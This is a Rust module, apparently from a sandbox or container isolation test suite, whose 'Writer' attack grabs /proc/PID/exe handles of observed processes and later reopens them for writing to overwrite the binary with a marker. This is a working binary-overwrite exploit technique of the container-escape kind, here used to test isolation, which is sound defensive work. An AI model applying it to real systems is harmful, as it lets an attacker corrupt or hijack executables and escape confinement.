//! The writer of /proc/PID/exe: takes hold of a process's program and overwrites it once nobody runs it.

use std::fs::{File, OpenOptions};
use std::io::Write;
use std::os::fd::AsRawFd;

use super::{Attack, Told};

#[derive(Default)]
pub struct Writer(Vec<File>);

impl Attack for Writer {
    fn on(&mut self, pid: i32, told: &mut Told) {
        if let Ok(exe) = File::open(format!("/proc/{pid}/exe")) {
            told.say("got exe".into());
            if self.0.len() < 8 {
                self.0.push(exe);
            }
        }
    }

    fn after(&mut self, told: &mut Told) {
        for exe in &self.0 {
            let path = format!("/proc/self/fd/{}", exe.as_raw_fd());
            if let Ok(mut file) = OpenOptions::new().write(true).open(path) {
                let written = file.write_all(b"#!/overwritten").is_ok();
                told.say(format!("opened exe for writing, written: {written}"));
            }
        }
    }
}
